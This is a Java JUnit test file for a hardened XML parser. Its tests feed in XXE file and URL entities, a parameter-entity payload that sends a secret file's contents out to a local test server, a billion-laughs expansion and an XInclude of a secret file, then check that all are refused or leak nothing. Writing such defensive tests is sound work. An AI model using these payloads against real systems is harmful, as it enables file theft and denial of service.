package io.orderhub.format.xml;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import io.orderhub.format.FormatException;
import io.orderhub.format.FormatResult;
import io.orderhub.format.MappingContext;
import io.orderhub.mapping.MappingFiles;
import net.sf.saxon.s9api.Processor;
import net.sf.saxon.s9api.XdmNode;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hardened XML parsing: entity declarations (XXE by file and URL, parameter entities, billion laughs)
 * are refused before anything is read; a DOCTYPE naming an external DTD is accepted and the DTD never
 * fetched. A local HTTP server records every request, and a temp file holds a secret that must appear
 * nowhere.
 */
class SafeXmlTest {

    static final String SECRET = "TOP-SECRET-7f3a9c";
    static final String UBL = "urn:oasis:names:specification:ubl:schema:xsd:Order-2";

    static HttpServer server;
    static final List<String> requests = new CopyOnWriteArrayList<>();
    static String base;

    @TempDir
    Path tmp;
    Path secretFile;
    final Processor saxon = new Processor(false);

    @BeforeAll
    static void startServer() throws IOException {
        server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        server.createContext("/", exchange -> {
            requests.add(exchange.getRequestURI().toString());
            byte[] body = ("<!ENTITY leak \"" + SECRET + "\">").getBytes(UTF_8);
            exchange.sendResponseHeaders(200, body.length);
            exchange.getResponseBody().write(body);
            exchange.close();
        });
        server.start();
        base = "http://127.0.0.1:" + server.getAddress().getPort();
    }

    @AfterAll
    static void stopServer() {
        server.stop(0);
    }

    @BeforeEach
    void secret() throws IOException {
        requests.clear();
        secretFile = Files.writeString(tmp.resolve("secret.txt"), SECRET);
    }

    private FormatException refused(String xml) {
        return assertThrows(FormatException.class, () -> SafeXml.parse(saxon.newDocumentBuilder(), xml.getBytes(UTF_8)));
    }

    private XdmNode parsed(String xml) {
        return SafeXml.parse(saxon.newDocumentBuilder(), xml.getBytes(UTF_8));
    }

    @Test
    void fileEntityIsRefusedAndTheFileNeverRead() {
        String xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE Order [\n  <!ENTITY xxe SYSTEM \"" + secretFile.toUri() + "\">\n]>\n"
                + "<Order xmlns=\"" + UBL + "\">&xxe;</Order>";
        FormatException e = refused(xml);
        assertThat(e.error().field()).isEqualTo("body");
        assertThat(e.error().message()).contains("declares an entity 'xxe' at line 3").contains("refused")
                .doesNotContain(SECRET);
    }

    @Test
    void fileEntityThroughTheUblFormatLeavesNoTrace() {
        String xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE Order [<!ENTITY xxe SYSTEM \"" + secretFile.toUri() + "\">]>\n"
                + "<Order xmlns=\"" + UBL + "\" xmlns:cbc=\"urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2\">"
                + "<cbc:ID>&xxe;</cbc:ID><cbc:Note>&xxe;</cbc:Note></Order>";
        ObjectMapper json = new ObjectMapper();
        UblOrderFormat ubl = new UblOrderFormat(new XsltOrderMapper(json));
        FormatResult result = ubl.read(xml.getBytes(UTF_8), new MappingContext(null, new MappingFiles("mappings")));
        assertThat(result.orders()).isEmpty();
        assertThat(result.documentErrors()).singleElement()
                .satisfies(error -> assertThat(error.message()).contains("declares an entity 'xxe'"));
        assertThat(result.toString()).doesNotContain(SECRET);
    }

    @Test
    void urlEntityIsRefusedWithoutARequest() {
        String xml = "<!DOCTYPE cXML [<!ENTITY xxe SYSTEM \"" + base + "/secret\">]><cXML>&xxe;</cXML>";
        FormatException e = refused(xml);
        assertThat(e.error().message()).contains("declares an entity 'xxe' at line 1");
        assertThat(requests).isEmpty();
    }

    @Test
    void parameterEntityIsRefusedWithoutARequest() {
        String xml = "<?xml version=\"1.0\"?>\n<!DOCTYPE cXML [\n<!ENTITY % remote SYSTEM \"" + base + "/evil.dtd\">\n%remote;\n]>\n"
                + "<cXML>&leak;</cXML>";
        FormatException e = refused(xml);
        assertThat(e.error().message()).contains("declares a parameter entity 'remote' at line 3").doesNotContain(SECRET);
        assertThat(requests).isEmpty();
    }

    @Test
    void parameterEntityReadingAFileIsRefused() {
        String xml = "<!DOCTYPE x [<!ENTITY % file SYSTEM \"" + secretFile.toUri() + "\">"
                + "<!ENTITY % wrap \"<!ENTITY send SYSTEM '" + base + "/?d=%file;'>\">%wrap;]><x>&send;</x>";
        FormatException e = refused(xml);
        assertThat(e.error().message()).contains("parameter entity 'file'").doesNotContain(SECRET);
        assertThat(requests).isEmpty();
    }

    @Test
    void billionLaughsIsRefusedAtOnce() {
        StringBuilder xml = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
        for (int i = 1; i <= 9; i++) {
            xml.append(" <!ENTITY lol").append(i).append(" \"").append(("&lol" + (i == 1 ? "" : i - 1) + ";").repeat(10)).append("\">\n");
        }
        xml.append("]>\n<lolz>&lol9;</lolz>");
        FormatException e = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> refused(xml.toString()));
        assertThat(e.error().message()).contains("declares an entity 'lol' at line 3");
    }

    @Test
    void externalDtdOfRealCxmlIsAcceptedAndNeverFetched() {
        String xml = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE cXML SYSTEM \"" + base + "/schemas/cXML/1.2.060/Custom.dtd\">\n"
                + "<cXML payloadID=\"1\"><Request/></cXML>";
        XdmNode doc = parsed(xml);
        assertThat(doc.children().iterator().next().getNodeName().getLocalName()).isEqualTo("cXML");
        assertThat(requests).isEmpty();
    }

    @Test
    void publicDoctypeIsAcceptedAndNeverFetched() {
        String xml = "<!DOCTYPE cXML PUBLIC \"-//Ariba//cXML 1.2//EN\" \"" + base + "/cXML.dtd\"><cXML/>";
        parsed(xml);
        assertThat(requests).isEmpty();
    }

    @Test
    void anEntityOfTheUnreadExternalDtdIsSkipped() {
        // the DTD at base would define &leak; as the secret; it is never loaded, so nothing is substituted
        String xml = "<!DOCTYPE cXML SYSTEM \"" + base + "/leak.dtd\"><cXML>[&leak;]</cXML>";
        assertThat(parsed(xml).getStringValue()).isEqualTo("[]");
        assertThat(requests).isEmpty();
    }

    @Test
    void xincludeIsNotProcessed() {
        String xml = "<x xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"" + secretFile.toUri()
                + "\" parse=\"text\"/></x>";
        assertThat(parsed(xml).getStringValue()).doesNotContain(SECRET);
    }

    @Test
    void malformedXmlNamesLineAndColumn() {
        FormatException e = refused("<?xml version=\"1.0\"?>\n<Order>\n  <ID>1</ID>\n  <Line>\n</Order>");
        assertThat(e.error().field()).isEqualTo("body");
        assertThat(e.error().message()).startsWith("is not well-formed XML at line 5, column 3");
    }

    @Test
    void notXmlAtAll() {
        assertThat(refused("{\"externalId\": 1}").error().message()).contains("is not well-formed XML at line 1, column 1");
    }

    @Test
    void emptyDocument() {
        assertThat(assertThrows(FormatException.class, () -> SafeXml.parse(saxon.newDocumentBuilder(), new byte[0]))
                .error().message()).isEqualTo("is empty");
    }
}
